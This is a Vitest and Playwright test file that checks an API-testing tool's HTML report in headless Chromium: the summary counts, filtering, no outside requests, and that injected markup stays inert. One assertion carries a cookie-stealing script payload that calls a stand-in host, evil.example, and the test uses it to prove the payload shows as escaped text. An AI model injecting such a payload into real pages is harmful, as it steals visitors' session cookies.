import { mkdirSync, mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writeReports } from '../../../src/reporters/index.js';
import type { RunReport } from '../../../src/results/model.js';
import { CHROMIUM_SETUP_MS, launchChromium, SCREENSHOTS } from '../../helpers/chromium.js';
import { fixture } from '../../helpers/reports.js';

let browser: Browser;

beforeAll(async () => {
  mkdirSync(SCREENSHOTS, { recursive: true });
  browser = await launchChromium();
}, CHROMIUM_SETUP_MS);
afterAll(async () => {
  await browser?.close();
});

interface Opened {
  page: Page;
  report: RunReport;
  /** Every request that was not for the file itself (aborted). */
  outside: string[];
  problems: string[];
  close(): Promise<void>;
}

async function open(name: 'passing-run' | 'failing-run'): Promise<Opened> {
  const dir = mkdtempSync(join(tmpdir(), 'vapc-html-'));
  const written = await writeReports(fixture(name), dir);
  const report = JSON.parse(readFileSync(written.json, 'utf8')) as RunReport;
  const context = await browser.newContext({ viewport: { width: 1366, height: 768 } });
  const page = await context.newPage();
  const outside: string[] = [];
  const problems: string[] = [];
  const self = pathToFileURL(written.html).href;
  await page.route('**/*', (route) => {
    const url = route.request().url();
    if (url === self) return route.continue();
    outside.push(url);
    return route.abort();
  });
  page.on('pageerror', (e) => problems.push(`pageerror: ${e.message}`));
  page.on('console', (m) => {
    if (m.type() === 'error') problems.push(`console: ${m.text()}`);
  });
  page.on('dialog', (d) => {
    problems.push(`dialog: ${d.message()}`);
    void d.dismiss();
  });
  await page.goto(self);
  return { page, report, outside, problems, close: () => context.close() };
}

const visibleResults = (page: Page) => page.locator('.result:visible').count();

describe('report.html in headless Chromium', () => {
  it('shows summary counts equal to report.json, requests nothing outside the file, and runs no injected markup', async () => {
    const { page, report, outside, problems, close } = await open('failing-run');
    try {
      const count = async (id: string) => Number(await page.locator(`#count-${id}`).textContent());
      expect(await count('passed')).toBe(report.summary.passed);
      expect(await count('failed')).toBe(report.summary.failed);
      expect(await count('skipped')).toBe(report.summary.skipped);
      expect(await count('error')).toBe(report.summary.errors);
      expect(await count('requests')).toBe(report.summary.requests);
      expect(await count('observations')).toBe(report.observations.length);
      expect(await page.locator('#seed').textContent()).toBe(String(report.seed));
      expect(await page.locator('.result').count()).toBe(report.results.length);
      expect(await page.locator('#shown').textContent()).toBe(
        `showing ${report.results.length} of ${report.results.length}`,
      );
      expect(await page.locator('script').count()).toBe(1);
      expect(await page.locator('img').count()).toBe(0);
      await page.screenshot({ path: join(SCREENSHOTS, 'report-failing-top.png') });

      // Expand the failure whose response body is hostile HTML: it shows as text.
      const shape = page.locator('details.result[data-id="validation.error-body-shape"]');
      await shape.locator('summary').click();
      await expect.poll(() => shape.getAttribute('open')).not.toBeNull();
      const response = shape.locator('.exchange pre').nth(1);
      expect(await response.textContent()).toContain(
        "<script>fetch('https://evil.example/steal?c='+document.cookie)</script>",
      );
      expect(await shape.locator('.exchange pre').first().textContent()).toContain(
        'PATCH http://127.0.0.1:43117/campaign/cmp_7',
      );
      const f = report.results.find((r) => r.id === 'validation.error-body-shape')!;
      expect(await shape.locator('.copyline pre').first().textContent()).toBe(f.failures![0]!.repro);
      await shape.locator('button.copy').first().click();
      await expect.poll(() => shape.locator('button.copy').first().textContent()).toBe('Copied');
      await shape.scrollIntoViewIfNeeded();
      await page.screenshot({ path: join(SCREENSHOTS, 'report-failing-expanded.png') });
      await page.screenshot({ path: join(SCREENSHOTS, 'report-failing-full.png'), fullPage: true });

      expect(outside).toEqual([]);
      expect(problems).toEqual([]);
    } finally {
      await close();
    }
  });

  it('filters by suite, by status and by text', async () => {
    const { page, report, outside, problems, close } = await open('failing-run');
    try {
      await page.selectOption('#filter-suite', 'ranges');
      const ranges = report.results.filter((r) => r.suite === 'ranges');
      expect(await visibleResults(page)).toBe(ranges.length);
      expect(await page.locator('#shown').textContent()).toBe(`showing ${ranges.length} of ${report.results.length}`);
      await page.uncheck('input[name=status][value=passed]');
      expect(await visibleResults(page)).toBe(ranges.filter((r) => r.status !== 'passed').length);
      await page.selectOption('#filter-suite', '');
      for (const v of ['skipped', 'error'] as const) await page.uncheck(`input[name=status][value=${v}]`);
      expect(await visibleResults(page)).toBe(report.summary.failed);
      await page.fill('#filter-text', 'GET /calls');
      expect(await visibleResults(page)).toBe(
        report.results.filter((r) => r.status === 'failed' && r.operation === 'GET /calls').length,
      );
      await page.fill('#filter-text', 'no such check');
      expect(await visibleResults(page)).toBe(0);
      expect(await page.locator('#no-match').isVisible()).toBe(true);
      // A suite link in the table sets the suite filter.
      await page.fill('#filter-text', '');
      for (const v of ['passed', 'skipped', 'error'] as const) await page.check(`input[name=status][value=${v}]`);
      await page.click('a[data-filter-suite="cors"]');
      expect(await page.inputValue('#filter-suite')).toBe('cors');
      expect(await visibleResults(page)).toBe(report.results.filter((r) => r.suite === 'cors').length);
      expect(outside).toEqual([]);
      expect(problems).toEqual([]);
    } finally {
      await close();
    }
  });

  it('renders a passing run', async () => {
    const { page, report, outside, problems, close } = await open('passing-run');
    try {
      expect(await page.locator('#verdict').textContent()).toBe('passed');
      expect(Number(await page.locator('#count-passed').textContent())).toBe(report.summary.passed);
      expect(await page.locator('#observations li').count()).toBe(report.observations.length);
      await page.screenshot({ path: join(SCREENSHOTS, 'report-passing.png'), fullPage: true });
      expect(outside).toEqual([]);
      expect(problems).toEqual([]);
    } finally {
      await close();
    }
  });
});
